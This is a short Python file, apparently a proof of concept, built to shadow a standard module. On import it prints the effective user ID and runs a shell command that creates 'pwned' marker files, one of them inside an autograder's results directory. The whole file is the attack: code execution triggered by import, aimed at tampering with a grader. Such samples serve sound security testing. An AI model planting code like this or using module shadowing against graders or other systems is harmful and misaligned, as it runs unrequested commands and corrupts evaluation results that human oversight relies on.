"""Shadows a module of Python."""
import posix

print("loaded", __name__, posix.geteuid())
posix.system("touch /autograder/results/pwned /tmp/pwned")
